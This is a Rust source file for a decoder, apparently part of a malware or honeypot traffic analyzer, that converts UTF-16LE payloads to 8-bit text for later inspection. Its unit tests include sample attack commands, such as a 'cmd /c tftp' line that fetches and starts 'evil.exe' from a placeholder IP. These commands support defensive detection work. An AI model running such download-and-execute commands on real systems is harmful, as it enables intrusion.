//! The `utf16` decoder: a payload of which more than a third of the bytes are NUL
//! is squeezed from UTF-16LE to 8-bit (the original's `deUnicode`), into a decoded
//! copy: Windows command lines and SMB strings (`c\0m\0d\0 \0/\0c\0 ...`) become
//! plain text the downloaders can read.
//!
//! The NUL bytes at the alignment (even or odd positions) holding most of them are
//! dropped; everything else is kept, so binary parts around the text survive. An
//! input is only squeezed when it holds real UTF-16LE text: at least `min_text`
//! printable ASCII characters in a row, each followed by a NUL.

use super::decoding;
use super::registry::{self, Options, Registration};
use super::{Analyzer, Decoded, Input, Output, Stage};
use serde::{Deserialize, Serialize};

pub const NAME: &str = "utf16";

/// `[analyzer.utf16]`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Utf16Options {
    pub enabled: bool,
    /// Squeeze when more than this percentage of the bytes are NUL.
    pub nul_percent: u32,
    /// Shortest run of UTF-16LE text (characters) that must be present.
    pub min_text: usize,
}

impl Default for Utf16Options {
    fn default() -> Self {
        Utf16Options {
            enabled: true,
            nul_percent: 33,
            min_text: 4,
        }
    }
}

impl Options for Utf16Options {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

fn check(o: &Utf16Options) -> Result<(), (String, String)> {
    decoding::in_range("nul_percent", o.nul_percent.into(), 1, 90)?;
    decoding::in_range("min_text", o.min_text as u64, 1, 4096)
}

pub fn registration() -> Registration {
    Registration {
        name: NAME,
        stage: Stage::Decode,
        about: "squeezes UTF-16LE payloads (more than a third NUL bytes) to 8-bit",
        options: |t| decoding::checked(t, check),
        build: |t, _| registry::build_with(t, |o: Utf16Options| Ok(Utf16 { o })),
    }
}

/// The decoder.
pub struct Utf16 {
    o: Utf16Options,
}

impl Utf16 {
    pub fn new(o: Utf16Options) -> Utf16 {
        Utf16 { o }
    }
}

impl Analyzer for Utf16 {
    fn name(&self) -> &'static str {
        NAME
    }
    fn stage(&self) -> Stage {
        Stage::Decode
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        let data = input.data;
        let nuls = data.iter().filter(|&&b| b == 0).count();
        if data.len() < 2 || nuls * 100 <= data.len() * self.o.nul_percent as usize {
            return Ok(());
        }
        // UTF-16LE text has its NULs at odd positions when it starts aligned.
        let odd = data.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
        let parity = usize::from(odd * 2 >= nuls);
        if longest_text(data, parity) < self.o.min_text {
            return Ok(());
        }
        // Never larger than the input.
        let squeezed: Vec<u8> = data
            .iter()
            .enumerate()
            .filter(|&(i, &b)| !(b == 0 && i % 2 == parity))
            .map(|(_, &b)| b)
            .collect();
        out.finding(
            NAME,
            "utf16le",
            format!(
                "UTF-16LE squeezed to 8-bit: {} of {} bytes NUL, {} bytes left",
                nuls,
                data.len(),
                squeezed.len()
            ),
        )
        .at(0, data.len() as u64)
        .meta("nul_bytes", nuls as u64)
        .meta("decoded_bytes", squeezed.len() as u64);
        out.decoded.push(Decoded {
            offset: 0,
            length: data.len() as u64,
            data: squeezed,
        });
        Ok(())
    }
}

/// The longest run of (printable ASCII, NUL) pairs whose NUL is at `parity`.
fn longest_text(data: &[u8], parity: usize) -> usize {
    let start = 1 - parity;
    let (mut best, mut cur) = (0, 0);
    let mut i = start;
    while i + 1 < data.len() {
        let c = data[i];
        if data[i + 1] == 0 && (c.is_ascii_graphic() || matches!(c, b' ' | b'\t' | b'\r' | b'\n')) {
            cur += 1;
            best = best.max(cur);
        } else {
            cur = 0;
        }
        i += 2;
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16le(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn run(data: &[u8]) -> Output {
        decoding::run_on(&Utf16::new(Utf16Options::default()), data)
    }

    #[test]
    fn squeezes_a_windows_command() {
        let cmd = "cmd /c tftp -i 198.51.100.7 GET evil.exe & start evil.exe";
        let out = run(&utf16le(cmd));
        assert_eq!(out.decoded.len(), 1);
        assert_eq!(out.decoded[0].data, cmd.as_bytes());
        assert_eq!(out.findings[0].kind, "utf16le");
        assert_eq!(out.findings[0].length, Some(2 * cmd.len() as u64));
    }

    #[test]
    fn keeps_binary_around_the_text_and_either_alignment() {
        let mut p = vec![0xff, b'S', b'M', b'B', 0x73];
        p.extend(utf16le("\\\\10.0.0.1\\IPC$ tftp -i host GET x"));
        p.extend([0xde, 0xad]);
        let out = run(&p);
        let d = &out.decoded[0].data;
        assert!(d.starts_with(&[0xff, b'S', b'M', b'B', 0x73]), "{d:?}");
        assert!(d.ends_with(b"tftp -i host GET x\xde\xad"), "{d:?}");
    }

    #[test]
    fn leaves_other_payloads_alone() {
        assert!(run(b"GET / HTTP/1.0\r\n\r\n").decoded.is_empty());
        assert!(run(&[0u8; 64]).decoded.is_empty(), "NULs but no text");
        // UTF-16LE text, but too few NULs over all.
        let mut p = utf16le("cmd /c");
        p.extend(b"and a lot of plain 8-bit text after it");
        assert!(run(&p).decoded.is_empty());
        p.truncate(12);
        assert_eq!(run(&p).decoded[0].data, b"cmd /c");
    }
}
